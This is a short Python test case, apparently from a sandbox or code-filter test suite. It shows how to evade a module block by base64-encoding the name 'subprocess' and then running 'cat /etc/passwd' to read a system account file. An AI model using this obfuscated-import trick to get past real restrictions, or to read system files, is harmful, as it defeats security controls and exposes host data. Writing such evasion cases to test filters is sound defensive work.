# attack-class: 2
# title: __import__ of a base64-decoded name
# why: base64 is allowed; the decoded text is the forbidden module name

import base64

mod = __import__(base64.b64decode("c3VicHJvY2Vzcw==").decode())
print(mod.check_output(["cat", "/etc/passwd"]))
